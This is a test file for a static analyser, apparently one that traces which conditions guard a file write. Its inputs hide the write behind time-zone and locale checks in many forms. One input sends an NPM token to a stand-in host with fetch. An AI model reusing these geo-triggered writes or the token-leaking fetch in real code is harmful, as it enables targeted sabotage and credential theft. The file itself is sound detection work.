import { describe, expect, test } from 'vitest';
import { follow } from '../sample.js';

const ZONE = 'const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;';
const DEED = "require('fs').writeFileSync('/srv/a', 'b')";

function guardsOfDeed(code: string): string[] {
  const deed = follow(code).observations.find(({ sink }) => sink === 'fs.write');
  return deed === undefined ? ['no deed'] : deed.guards.map(({ kind }) => kind);
}

describe('what stands for a condition is one, wherever it is asked about', () => {
  test.each([
    `let flag = false; if (zone === 'X') flag = true; if (flag) ${DEED};`,
    `function here() { if (zone === 'X') return true; return false } if (here()) ${DEED};`,
    `const flag = zone === 'X' ? 1 : 0; if (flag) ${DEED};`,
    `let flag = 0; switch (zone) { case 'X': flag = 1 } if (flag) ${DEED};`,
    `const settings = {}; if (zone === 'X') settings.strict = true; if (settings.strict) ${DEED};`,
    `const zones = { X: 1 }; if (zones[zone]) ${DEED};`,
    `const zones = { X: 1 }; if (zones[zone] === 1) ${DEED};`,
    `if (zone in { X: 1 }) ${DEED};`,
    `if ({ X: 1 }.hasOwnProperty(zone)) ${DEED};`,
    `if (new Set(['X']).has(zone)) ${DEED};`,
    `if (new Map([['X', 1]]).get(zone)) ${DEED};`,
    `if (['X'].some((each) => each === zone)) ${DEED};`,
    `if (['X'].find((each) => each === zone)) ${DEED};`,
    `const tags = [process.env.LANG].map((tag) => tag.slice(0, 5)); if (tags.some((tag) => /ZZ$/.test(tag))) ${DEED};`,
  ])('%s', (code) => {
    expect(guardsOfDeed(`${ZONE}\n${code}`)).toEqual(['locale']);
  });

  test('a flag that is set whatever the zone is stands for nothing', () => {
    expect(
      guardsOfDeed(
        `${ZONE} let flag = Math.max(...process.argv); if (zone === 'X') console.log(1); if (flag) ${DEED};`,
      ),
    ).toEqual(['argv']);
  });

  test('of a table that is looked into by a secret only whom it asks about is kept', () => {
    const code = `const words = { a: 'x', b: 'y' }; fetch('https://a.example/' + words[process.env.NPM_TOKEN]);`;
    expect(follow(code).observations.flatMap(({ sink, taints }) => (sink === 'net.out' ? taints : []))).toEqual([]);
  });
});
